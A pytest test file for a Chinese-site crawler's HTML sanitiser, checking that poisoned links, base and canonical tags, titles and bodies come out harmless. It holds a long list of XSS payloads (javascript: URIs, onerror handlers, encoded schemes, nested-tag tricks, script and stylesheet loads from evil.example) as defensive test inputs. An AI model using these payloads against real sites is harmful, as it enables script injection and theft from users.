"""Pages that mean harm: scripts in titles and bodies, links and bases that lead away. What is read is harmless."""

from __future__ import annotations

import json
import re

import pytest
from lxml.html import fragment_fromstring
from page_help import PROSE, TRUE, URL, article, read, values

from yunliebian_crawler.normalise import HTML_TAGS, to_safe_html

LINKS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "#",
    "",
    "http://",
    "http://[",
    "https://user:pw@www.yunliebian.com/",
    "mailto:a@b.example",
    "tel:1",
]


@pytest.mark.parametrize("link", LINKS)
def test_a_link_that_leads_nowhere_is_no_address(link):
    link = link.replace('"', "&quot;").replace("<", "&lt;")
    anchor = f'<a href="{link}">换人之前先看看这一页</a>'
    page = article(
        inside=f"<p>{anchor}，再说。</p>",
        below=f"<h3>热门文章</h3><ul><li>{anchor}</li></ul><div class='page'><a href=\"{link}\">下一页</a></div>",
    )
    result = read(page.replace('<a href="/yunying/">', f'<a href="{link}">', 1))
    assert result["next_url"] is None
    assert result["panels"]["hot"] == []
    assert [crumb["url"] for crumb in result["breadcrumb"]][:1] in ([], ["https://www.yunliebian.com/"])
    assert not re.search(
        r"javascript:|vbscript:|data:|file:|blob:",
        json.dumps(result["panels"]) + json.dumps(result["breadcrumb"]) + (result["body_html"] or ""),
        re.IGNORECASE,
    )


@pytest.mark.parametrize(
    "base",
    [
        "https://other.example/",
        "//other.example/x/",
        "javascript:alert(1)",
        "data:text/html,x",
        "http://[",
        "",
        "#",
        "ftp://www.yunliebian.com/",
    ],
)
def test_a_base_of_another_host_moves_no_address_onto_the_site(base):
    result = read(
        article(
            head=f'<base href="{base}">',
            below="<h3>热门文章</h3><ul><li><a href='b/2.html'>换人之前先看看这一页</a></li></ul>",
        )
    )
    assert values(result) == TRUE
    assert result["url"] == URL
    for entry in result["panels"]["hot"]:
        assert entry["url"] == "https://www.yunliebian.com/yunying/b/2.html"


@pytest.mark.parametrize(
    ("href", "url"),
    [
        ("https://other.example/1.html", URL),
        ("//other.example/1.html", URL),
        ("javascript:alert(1)", URL),
        ("", URL),
        ("#", URL),
        ("http://[", URL),
        ("/", URL),
        ("https://www.yunliebian.com/", URL),
        ("https://www.yunliebian.com/index.html?from=x", URL),
        ("http://yunliebian.com/yunying/index.html", None),
        ("/yunying/2.html?utm_source=x#top", "https://www.yunliebian.com/yunying/2.html"),
    ],
)
def test_a_canonical_link_is_obeyed_on_the_site_only(href, url):
    found = read(article(head=f'<link rel="canonical" href="{href}">'))["url"]
    assert found == url if url else found.startswith("https://www.yunliebian.com/yunying/")


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' / onload=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img data-src='javascript:alert(1)' src='data:,'>",
    "<img src='/a.jpg' srcset='javascript:alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,x'><embed src=x></object>",
    "<form action=//evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import '//evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))' onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",  # noqa: E501
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\"><script>alert(1)</script>' onmouseover='alert(1)",
    "<x-custom onclick=alert(1)>x</x-custom><body onload=alert(1)><html onclick=alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<p id=location name=cookie class='x' data-a='javascript:1'>x</p>",
]
URLS = frozenset(("href", "src"))


def assert_harmless(html: str) -> None:
    """Parsed again, the HTML holds nothing that runs, loads style or asks for input."""
    for el in fragment_fromstring(html, create_parent="div").iter():
        assert el.tag in HTML_TAGS, el.tag
        for name, value in el.attrib.items():
            assert name in {"href", "src", "alt", "title", "width", "height", "colspan", "rowspan", "start", "rel"}, (
                name
            )
            assert name not in URLS or re.match(r"https?://|mailto:|[^:]*$", value), value


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("place", ["inside", "above", "title", "whole"])
def test_a_poisoned_body_comes_out_harmless(payload, place):
    page = f"<p>{PROSE}</p>{payload}<p>{PROSE}</p>"
    result = read(article(**{place: payload}) if place != "whole" else article(inside=page * 3))
    assert_harmless(result["body_html"] or "<p></p>")
    assert not re.search(r"javascript:|data:", "".join(image["url"] for image in result["images"]), re.IGNORECASE)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_makes_any_source_harmless(payload):
    assert_harmless(to_safe_html(f"<div>{payload}</div>") or "<p></p>")


def test_a_poisoned_title_is_plain_text():
    result = read(article(title="口头约定<img src=x onerror=alert(1)><script>alert(1)</script>&lt;b&gt;"))
    assert result["title"] is None or ("onerror" not in result["title"] and "alert" not in result["title"])
